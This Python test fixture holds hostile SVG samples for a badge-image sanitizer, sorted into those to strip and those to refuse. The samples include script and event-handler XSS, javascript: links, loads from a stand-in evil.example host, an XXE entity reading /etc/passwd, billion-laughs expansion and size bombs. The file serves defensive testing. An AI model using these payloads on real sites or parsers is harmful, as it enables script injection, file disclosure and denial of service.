"""Drawings that want to do something (SECURITY D6 to D8). CANARY is what their scripts would set."""

CANARY = "owned"
EVIL = "https://evil.example/canary"
_HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"'
)
_DO = "document.title='owned'"


def svg(inside: str, on_root: str = "") -> str:
    """A drawing with a circle in it, so that something is left of it."""
    return f'{_HEAD} {on_root}><circle cx="50" cy="50" r="40" fill="#246"/>{inside}</svg>'


# What is left out: the drawing is taken without it.
LEFT_OUT = {
    "a script": svg(f"<script>{_DO}</script>"),
    "a script from elsewhere": svg(f'<script href="{EVIL}.js"/>'),
    "an xlink script": svg(f'<script xlink:href="{EVIL}.js"/>'),
    "a script in CDATA": svg(f"<script><![CDATA[{_DO}]]></script>"),
    "onload": svg("", f'onload="{_DO}"'),
    "onload on a shape": svg(f'<rect width="9" height="9" onload="{_DO}" onclick="{_DO}"/>'),
    "a link that runs": svg(f'<a xlink:href="javascript:{_DO}"><rect width="9" height="9"/></a>'),
    "a set that runs": svg(
        f'<a><set attributeName="href" to="javascript:{_DO}"/><rect width="9" height="9"/></a>'
    ),
    "a paint of elsewhere": svg(f'<rect width="9" height="9" fill="url({EVIL}.svg#a)"/>'),
    "a paint of elsewhere in a style": svg(f'<rect width="9" height="9" style="fill:url({EVIL}.svg#a)"/>'),
    "a background in a style": svg(f'<rect width="9" height="9" style="background:url({EVIL}.png)"/>'),
    "a mask of elsewhere": svg(f'<rect width="9" height="9" mask="url({EVIL}.svg#a)"/>'),
    "a clip of elsewhere": svg(f'<rect width="9" height="9" clip-path="url(\'{EVIL}.svg#a\')"/>'),
    "a cursor": svg(f'<rect width="9" height="9" cursor="url({EVIL}.cur), auto"/>'),
    "a marker": svg(f'<path d="M0 0L9 9" marker-end="url({EVIL}.svg#m)"/>'),
    "another base": svg('<rect width="9" height="9"/>', f'xml:base="{EVIL}"'),
    "another language": svg(f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="{_DO}"/>'),
    "another language's script": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{_DO}</h:script>'),
    "metadata with an address": svg('<metadata><x xmlns="urn:x" mail="eve@example.org"/></metadata>'),
    "a comment": svg("<!-- eve@example.org -->"),
    "a stylesheet instruction": f'<?xml-stylesheet href="{EVIL}.css" type="text/css"?>' + svg(""),
    "an own badge inside": svg(
        '<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0">{}</o:credential>'
    ),
}

# What would change the picture if it were left out: refused, with what to do.
REFUSED = {
    "a style sheet": svg(f"<style>@import url({EVIL}.css); * {{ fill: url({EVIL}) }}</style>"),
    "another language as an object": svg(f'<foreignObject><iframe src="javascript:{_DO}"/></foreignObject>'),
    "a picture of elsewhere": svg(f'<image href="{EVIL}.png" width="9" height="9"/>'),
    "a picture inside": svg('<image href="data:image/svg+xml,&lt;svg/&gt;" width="9" height="9"/>'),
    "a use of elsewhere": svg(f'<use href="{EVIL}.svg#a"/>'),
    "a use": svg('<use href="#a"/>'),
    "letters": svg("<text>Badge</text>"),
    "a filter": svg(f'<filter id="f"><feImage href="{EVIL}.png"/></filter>'),
    "a pattern": svg('<pattern id="p"><rect width="1" height="1"/></pattern>'),
    "something that moves": svg('<animate attributeName="href" values="javascript:1"/>'),
    "a drawing in a drawing": svg("<svg/>"),
    "a choice": svg("<switch><g/></switch>"),
    "a mask in a mask": svg('<mask id="m"><mask id="n"/></mask>'),
    "a cut cut": svg('<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask>'),
    "gradients in a circle": svg('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
    "nothing": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g/></svg>',
    "no size": '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>',
    "an endless size": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 inf 9"><rect width="9" height="9"/></svg>',
    "a size of nothing": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"><rect width="9" height="9"/></svg>',
    "no SVG": "<html><body/></html>",
    "no namespace": '<svg viewBox="0 0 9 9"><rect width="9" height="9"/></svg>',
    "cut short": svg("")[:-8],
    "entities that laugh": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    + svg("<desc>&b;</desc>"),
    "an entity of this machine": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + svg("<desc>&x;</desc>"),
    "a document type of elsewhere": f'<!DOCTYPE svg SYSTEM "{EVIL}.dtd">' + svg(""),
    "an entity nobody declared": svg("<desc>&nothing;</desc>"),
    "nested too deeply": svg("<g>" * 60 + "</g>" * 60),
    "too many parts": svg("<g/>" * 6000),
    "too many masks": svg('<mask id="m"/>' + '<rect width="9" height="9" mask="url(#m)"/>' * 200),
}
